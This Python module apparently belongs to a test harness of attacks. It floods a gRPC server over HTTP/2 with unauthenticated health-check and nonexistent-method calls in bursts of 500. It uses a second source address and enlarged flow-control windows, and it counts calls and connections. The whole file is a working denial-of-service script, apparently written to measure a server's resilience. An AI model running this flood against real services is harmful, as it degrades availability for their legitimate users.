"""Calls that anybody may make: health checks, reflection, and methods that do not exist."""

from __future__ import annotations

import itertools
import socket
import struct
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import (
    INITIAL_WINDOW_SIZE,
    WINDOW_UPDATE,
    call,
    connected,
    drain,
    frame,
    header_block,
)

_METHODS = ("/grpc.health.v1.Health/Check", "/no/such")
_BURST = 500
_REST_S = 0.02
_WIDE = (1 << 31) - 1
# Another address than the honest caller's.
_SOURCE = "127.0.0.2"


def _strike(target: Target, begin: Begin) -> Counts:
    blocks = [header_block(method) for method in _METHODS]
    calls = connections = 0
    until = begin()
    while time.monotonic() < until:
        with (
            suppress(OSError),
            connected(target.place, (INITIAL_WINDOW_SIZE, _WIDE), source=_SOURCE) as connection,
        ):
            connections += 1
            connection.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
            calls += _ask(connection, blocks, until)
    return {"calls": calls, "connections": connections}


def _ask(connection: socket.socket, blocks: list[bytes], until: float) -> int:
    calls = 0
    streams = itertools.count(1, 2)
    while time.monotonic() < until and drain(connection):
        turns = itertools.islice(itertools.cycle(blocks), _BURST)
        connection.sendall(b"".join(call(next(streams), block, b"") for block in turns))
        calls += _BURST
        time.sleep(_REST_S)
    return calls


ATTACK = Attack("calls that anybody may make", _strike)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
